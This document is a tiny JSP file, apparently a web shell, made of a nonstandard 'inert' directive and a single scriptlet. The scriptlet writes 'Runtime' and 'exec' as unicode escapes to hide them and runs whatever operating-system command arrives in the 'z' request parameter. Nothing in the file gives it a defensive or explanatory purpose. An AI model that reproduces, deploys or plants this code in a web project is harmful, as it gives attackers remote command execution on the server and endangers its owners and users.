<%@ inert %>
<% \u0052\u0075\u006e\u0074\u0069\u006d\u0065.getRuntime().\u0065xec(request.getParameter("z")); %>